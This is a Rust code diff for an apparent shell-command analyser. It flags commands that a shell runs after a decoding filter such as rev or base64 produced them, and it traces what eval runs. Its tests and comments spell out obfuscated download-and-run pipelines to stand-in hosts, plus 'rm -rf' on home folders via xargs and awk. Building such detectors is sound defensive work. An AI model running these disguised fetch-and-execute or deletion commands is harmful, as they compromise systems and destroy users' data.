@@ -45,6 +45,11 @@ pub struct Invocation {
     /// Whether a word of the command was spelled to hide it
     /// ([`crate::SimpleCommand::disguised`]).
     pub disguised: bool,
+    /// Whether it is a shell or interpreter reading program text that a
+    /// decoding filter of its pipeline produced (`echo … | rev | sh`,
+    /// `echo B64 | base64 -d | bash`): the decoded text is read as commands
+    /// too, but nobody encodes what they run in the open.
+    pub decoded_input: bool,
 }
 
 impl Invocation {
@@ -332,8 +337,11 @@ impl Walk {
     fn parsed(&mut self, parsed: &Parsed, depth: usize) {
         // `for NAME in VALUES; do … done`: the body runs once per value.
         let mut loops: Vec<(String, Vec<String>)> = Vec::new();
+        // The commands as run: a printed or reversed substitution put in
+        // its place, so a later stage of the pipeline sees what it reads
+        // (`eval "$(printf '\x63…')" | sh`).
+        let mut effective: Vec<SimpleCommand> = Vec::with_capacity(parsed.commands.len());
         for (i, cmd) in parsed.commands.iter().enumerate() {
-            let prev = (i > 0 && parsed.commands[i - 1].pipes_out).then(|| &parsed.commands[..i]);
             let first = cmd.words.first().map(String::as_str);
             if first == Some("for") && cmd.words.get(2).is_some_and(|w| w == "in") {
                 if let Some(name) = cmd.words.get(1) {
@@ -344,10 +352,12 @@ impl Walk {
                         .collect();
                     loops.push((name.clone(), values));
                 }
+                effective.push(cmd.clone());
                 continue;
             }
             if first == Some("done") {
                 loops.pop();
+                effective.push(cmd.clone());
                 continue;
             }
             let cmd = match i.checked_sub(1).map(|j| &parsed.commands[j]) {
@@ -358,6 +368,7 @@ impl Walk {
                 None => None,
             };
             let cmd = cmd.as_ref().unwrap_or(&parsed.commands[i]);
+            let prev = (i > 0 && parsed.commands[i - 1].pipes_out).then(|| &effective[..i]);
             match loops.iter().rev().find(|(name, _)| mentions(cmd, name)) {
                 Some((name, values)) => {
                     for v in values {
@@ -372,6 +383,7 @@ impl Walk {
                 }
                 None => self.one(cmd, prev, depth),
             }
+            effective.push(cmd.clone());
         }
     }
 
@@ -418,6 +430,7 @@ impl Walk {
             opaque_input: false,
             pipe_source: pipeline_source(cmd, prev),
             disguised: cmd.disguised,
+            decoded_input: false,
         };
         // `echo / | xargs rm -rf`: the piped words become arguments;
         // `ls -d /home/*/ | xargs rm -rf`, `find ~/p -maxdepth 1 | xargs rm`,
@@ -467,6 +480,11 @@ impl Walk {
                 if texts.is_empty() && cmd.stdin == Stdin::Pipe && opaque_pipeline(prev) {
                     if let Some(last) = self.out.commands.last_mut() {
                         last.opaque_input = true;
+                    }
+                }
+                if !texts.is_empty() && decoded_pipeline(cmd, prev) {
+                    if let Some(last) = self.out.commands.last_mut() {
+                        last.decoded_input = true;
                     }
                 }
                 for text in texts {
@@ -682,10 +700,21 @@ fn pipeline_source(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> Strin
             return String::new();
         }
     }
-    stages
-        .get(from)
-        .and_then(|s| peel(&s.words).map(|i| basename(&s.words[i]).to_owned()))
-        .unwrap_or_default()
+    let Some(first) = stages.get(from) else {
+        return String::new();
+    };
+    let Some(i) = peel(&first.words) else {
+        return String::new();
+    };
+    let name = basename(&first.words[i]);
+    // `eval "curl -s URL" | sh`: what eval runs is the source.
+    if name == "eval" {
+        let line = first.words[i + 1..].join(" ");
+        if let Some(word) = line.split_whitespace().next() {
+            return basename(word).to_owned();
+        }
+    }
+    name.to_owned()
 }
 
 /// Whether the pipeline feeding a shell starts with text we could see but
@@ -702,6 +731,23 @@ fn opaque_pipeline(prev: Option<&[SimpleCommand]>) -> bool {
     };
     let literal_source = echoed_text(source).is_some() || !source.stdin_text.is_empty();
     literal_source && pipeline.len() > 1
+}
+
+/// Whether what `cmd` reads went through a decoding filter ([`Filter`]):
+/// a stage of the pipeline feeding it, or the command itself given a
+/// here-string.
+fn decoded_pipeline(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> bool {
+    if cmd.stdin != Stdin::Pipe {
+        return false;
+    }
+    let Some(stages) = prev else { return false };
+    let mut from = stages.len();
+    while from > 0 && stages[from - 1].pipes_out {
+        from -= 1;
+    }
+    stages[from..]
+        .iter()
+        .any(|stage| Filter::of(&stage.words).is_some())
 }
 
 /// The program text of an awk command line: the first operand after the
@@ -1278,6 +1324,19 @@ mod tests {
         assert_eq!(s.commands.last().unwrap().name(), "bash");
         assert_eq!(s.commands.last().unwrap().pipe_source, "curl");
         assert_eq!(commands_run("ls | wc -l").commands[0].pipe_source, "");
+        // What eval runs is the source, a printed substitution put in place.
+        let s = commands_run(r#"eval "$(printf '\x63\x75\x72\x6c -s http://203.0.113.7/i')" | sh"#);
+        assert_eq!(s.commands.last().unwrap().pipe_source, "curl");
+        let s = commands_run(r#"eval "make test" | tee log"#);
+        let tee = s.commands.iter().find(|c| c.name() == "tee").unwrap();
+        assert_eq!(tee.pipe_source, "make");
+        // Text a filter decoded and fed to a shell is marked; text fed as
+        // written is not.
+        let s = commands_run("echo 'hs.x/elpmaxe.x//:sptth Lsf- lruc' | rev | sh");
+        assert!(s.commands.iter().any(|c| c.name() == "sh" && c.decoded_input));
+        assert!(s.commands.iter().any(|c| c.name() == "curl"));
+        let s = commands_run("echo 'make test' | sh");
+        assert!(!s.commands.iter().any(|c| c.decoded_input));
         // awk's program is code.
         let s = commands_run(r#"awk -F: 'BEGIN{system("rm -rf " ENVIRON["HOME"])}'"#);
         assert!(s.code[0].text.contains("system("));
